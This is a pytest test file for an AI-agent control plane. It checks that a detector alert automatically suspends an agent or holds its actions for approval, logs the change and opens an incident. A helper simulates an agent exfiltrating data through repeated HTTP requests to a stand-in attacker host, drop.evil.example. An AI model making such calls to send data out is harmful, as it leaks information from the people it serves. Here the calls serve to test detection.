"""Automatic response: opt-in per environment and risk tier, done through the kill switch
as the `warden-detector` user, recorded in the change log, with an incident opened."""

from __future__ import annotations

import pytest
from django.contrib.auth import authenticate, get_user_model

from controlplane.changelog.models import ObjectChange
from controlplane.core.exceptions import InvalidInput
from controlplane.detection.models import Alert, Incident
from controlplane.detection.services.response import set_response_policy
from controlplane.detection.services.scanning import run_detection
from tests.bundles.factories import environment
from tests.detection.conftest import known_traffic

pytestmark = pytest.mark.django_db


def exfiltrate(bot, ship, n=25):
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    ship(bot, bot.calls("exfil", [("http_request", {"url": f"https://drop.evil.example/{i}"}) for i in range(n)]))
    run_detection()
    return Alert.objects.get(agent=bot.agent, detector="new_destination")


def test_a_critical_alert_suspends_an_opted_in_agent_as_the_detector(admin_user, signed_agent, ship):
    environment("prod", by=admin_user)
    set_response_policy(environment="prod", risk_tiers=["high"], by=admin_user, hipaa_role="business_associate")
    bot = signed_agent(risk_tier="high")
    alert = exfiltrate(bot, ship)
    bot.agent.refresh_from_db()
    assert bot.agent.status == "suspended"
    assert bot.agent.status_reason.startswith(f"detector, alert {alert.pk}: invoice-bot made 20 calls")
    suspension = ObjectChange.objects.get(action="suspend", object_id=str(bot.agent.pk))
    assert suspension.user_name == "warden-detector" and suspension.user.username == "warden-detector"
    assert alert.response["action"] == "suspend" and alert.response["environments"] == ["prod"]
    assert ObjectChange.objects.filter(object_id=str(alert.pk), message__startswith="automatic response").exists()
    incident = Incident.objects.get()
    assert list(incident.alerts.all()) == [alert] and alert.response["incident"] == incident.pk
    assert sorted(incident.clocks.values_list("regime", flat=True)) == ["eu_ai_act_art73", "hipaa_164_410"]
    assert incident.timeline.filter(kind="action", message__contains="suspended automatically").exists()


def test_the_medium_alert_before_it_does_not_suspend(admin_user, signed_agent, ship):
    environment("prod", by=admin_user)
    set_response_policy(environment="prod", risk_tiers=["high"], by=admin_user)
    bot = signed_agent(risk_tier="high")
    alert = exfiltrate(bot, ship, n=5)
    bot.agent.refresh_from_db()
    assert alert.severity == "medium" and bot.agent.status == "active" and not Incident.objects.exists()


@pytest.mark.parametrize("case", ["other tier", "other environment", "disabled", "no policy"])
def test_without_an_opt_in_covering_the_agent_nothing_is_suspended(admin_user, signed_agent, ship, case):
    environment("prod", by=admin_user)
    environment("dev", by=admin_user)
    if case != "no policy":
        set_response_policy(environment="dev" if case == "other environment" else "prod",
                            risk_tiers=["minimal"] if case == "other tier" else ["high"],
                            enabled=case != "disabled", by=admin_user)
    bot = signed_agent(risk_tier="high")
    alert = exfiltrate(bot, ship)
    bot.agent.refresh_from_db()
    assert alert.severity == "critical"
    assert bot.agent.status == "active" and alert.response == {}
    assert not ObjectChange.objects.filter(action="suspend").exists()


def test_an_already_suspended_agent_is_left_as_it_is(admin_user, signed_agent, ship):
    from controlplane.identity.services import suspend_agent

    environment("prod", by=admin_user)
    set_response_policy(environment="prod", risk_tiers=["high"], by=admin_user)
    bot = signed_agent(risk_tier="high")
    ship(bot, bot.calls("normal", known_traffic(25)))
    run_detection()
    suspend_agent(bot.agent, by=admin_user, reason="by hand")
    ship(bot, bot.calls("late", [("http_request", {"url": f"https://drop.evil.example/{i}"}) for i in range(25)]))
    run_detection()
    assert ObjectChange.objects.filter(action="suspend").count() == 1
    assert Alert.objects.get().response == {}


def test_the_detector_user_cannot_log_in(admin_user, signed_agent, ship):
    environment("prod", by=admin_user)
    set_response_policy(environment="prod", risk_tiers=["high"], by=admin_user)
    exfiltrate(signed_agent(risk_tier="high"), ship)
    detector = get_user_model().objects.get(username="warden-detector")
    assert not detector.is_active and not detector.has_usable_password()
    assert authenticate(username="warden-detector", password="") is None


@pytest.mark.parametrize("fields, field", [
    ({"environment": "nowhere", "risk_tiers": ["high"]}, "environment"),
    ({"environment": "prod", "risk_tiers": []}, "risk_tiers"),
    ({"environment": "prod", "risk_tiers": ["extreme"]}, "risk_tiers"),
    ({"environment": "prod", "risk_tiers": "high"}, "risk_tiers"),
    ({"environment": "prod", "risk_tiers": ["high"], "min_severity": "apocalyptic"}, "min_severity"),
    ({"environment": "prod", "risk_tiers": ["high"], "hipaa_role": "landlord"}, "hipaa_role"),
])
def test_a_bad_policy_is_refused_naming_the_field(admin_user, fields, field):
    environment("prod", by=admin_user)
    with pytest.raises(InvalidInput) as refused:
        set_response_policy(by=admin_user, **fields)
    assert refused.value.field == field


def test_a_require_approval_response_holds_every_action_until_the_alert_is_closed(
    admin_user, signed_agent, ship, django_capture_on_commit_callbacks
):
    from agents_sdk.engine import RegoEngine
    from controlplane.bundles.selectors import registry_data
    from controlplane.core.signals import registry_changed
    from controlplane.detection.services.alerts import resolve_alert
    from controlplane.policies.library import library_modules
    from controlplane.policies.models import Tool

    prod = environment("prod", by=admin_user)
    Tool.objects.create(name="report_read")
    set_response_policy(environment="prod", risk_tiers=["high"], action="require_approval", by=admin_user)
    bot = signed_agent(risk_tier="high")
    rebuilds = []

    def rebuild_requested(sender, reason, **kwargs):
        rebuilds.append(reason)

    registry_changed.connect(rebuild_requested, dispatch_uid="test-hold")
    try:
        with django_capture_on_commit_callbacks(execute=True):
            alert = exfiltrate(bot, ship)
        bot.agent.refresh_from_db()
        assert bot.agent.status == "active"
        assert alert.response["action"] == "require_approval" and alert.response["environments"] == ["prod"]
        held = ObjectChange.objects.get(object_id=str(alert.pk), message__startswith="automatic response")
        assert held.user_name == "warden-detector" and "held for approval" in held.message
        assert Incident.objects.get().timeline.filter(message__contains="held for approval automatically").exists()
        # The bundles' rebuild (controlplane.bundles.receivers) is asked for once the hold commits.
        assert rebuilds == [f"detector, alert {alert.pk}: agent invoice-bot held for approval"]

        call = {"agent": {"id": "invoice-bot"}, "action": {"tool": "report_read", "args": {}},
                "context": {"environment": "prod"}}

        def decide():
            data = registry_data(prod)
            return data, RegoEngine().compile(library_modules(include_tests=False), {"warden_registry": data}).decide(call)

        data, decision = decide()
        assert data["held_agents"]["invoice-bot"]["alert"] == alert.pk
        assert decision["effect"] == "require_approval"
        assert [r["rule"] for r in decision["reasons"]] == ["detector-hold"]

        with django_capture_on_commit_callbacks(execute=True):
            resolve_alert(alert, by=admin_user, note="reviewed")
        assert rebuilds[-1] == f"detector, alert {alert.pk}: agent invoice-bot no longer held: the alert is closed"
        data, decision = decide()
        assert "held_agents" not in data and decision["effect"] == "allow"
    finally:
        registry_changed.disconnect(dispatch_uid="test-hold")


def test_an_unknown_response_action_is_refused_naming_the_field(admin_user):
    environment("prod", by=admin_user)
    with pytest.raises(InvalidInput) as refused:
        set_response_policy(environment="prod", risk_tiers=["high"], action="nuke", by=admin_user)
    assert refused.value.field == "action"
